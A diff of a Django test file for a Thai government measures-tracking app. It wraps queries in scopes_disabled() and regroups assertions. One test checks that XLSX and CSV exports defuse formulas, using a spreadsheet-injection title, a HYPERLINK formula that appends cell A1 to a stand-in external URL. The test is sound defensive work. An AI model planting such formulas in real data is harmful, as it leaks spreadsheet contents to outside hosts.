@@ -10,6 +10,7 @@ from decimal import Decimal
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django_scopes import scopes_disabled
 from openpyxl import load_workbook
 
 from measures.models import Measure, Progress
@@ -98,10 +99,12 @@ def test_open_data_cells_are_never_formulas(client, published):
     spreadsheets expect), a quote-prefixed text cell in the XLSX, unchanged in JSON."""
     six, _twelve, first, second = published
     title = '=HYPERLINK("https://example.invalid/?"&A1,"คลิก")'
-    Measure.objects.filter(pk=first.pk).update(title=title)
+    with scopes_disabled():
+        Measure.objects.filter(pk=first.pk).update(title=title)
     staff = User.objects.get(username="staff-published")
     six = round_reopen(progress_round=six, user=staff)  # in a new version, approved again
-    Progress.objects.filter(measure=second, round=six).update(summary="-ยังไม่เสร็จ")
+    with scopes_disabled():
+        Progress.objects.filter(measure=second, round=six).update(summary="-ยังไม่เสร็จ")
     approve_round(six, submitter=staff)
     data, rows_csv, _rows = formats(client)
     assert data["rows"][0]["title"] == title
@@ -296,12 +299,14 @@ def test_national_generator_makes_every_table(django_assert_max_num_queries):
         "generate_national", organisations=4, provinces=2, measures=3, batch=2, stdout=StringIO()
     )
     assert Organisation.objects.filter(code__startswith="nat-").count() == 4
-    assert Assessment.objects.filter(organisation__code__startswith="nat-").count() == 4 * 3
-    assert Measure.objects.filter(organisation__code__startswith="nat-").count() == 4 * 3 * 3
-    assert Progress.objects.filter(measure__organisation__code__startswith="nat-").count() == 72
-    assert QuestionScore.objects.filter(assessment__framework__fiscal_year=2568).count() == 4 * 33
-    assert OITItemScore.objects.filter(assessment__framework__fiscal_year=2566).count() == 4 * 43
-    assert OITChecklistEntry.objects.filter(organisation__code__startswith="nat-").count() == (
-        4 * (43 + 43 + 28)
-    )
+    with scopes_disabled():  # every generated organisation's rows: the test's own look
+        nat = {"organisation__code__startswith": "nat-"}
+        assert Assessment.objects.filter(**nat).count() == 4 * 3
+        assert Measure.objects.filter(**nat).count() == 4 * 3 * 3
+        assert Progress.objects.filter(measure__organisation__code__startswith="nat-").count() == 72
+        fy2568 = QuestionScore.objects.filter(assessment__framework__fiscal_year=2568)
+        assert fy2568.count() == 4 * 33
+        fy2566 = OITItemScore.objects.filter(assessment__framework__fiscal_year=2566)
+        assert fy2566.count() == 4 * 43
+        assert OITChecklistEntry.objects.filter(**nat).count() == 4 * (43 + 43 + 28)
     assert User.objects.get(username="bench-province").supervisions.get().province == ("จังหวัดที่ 01")
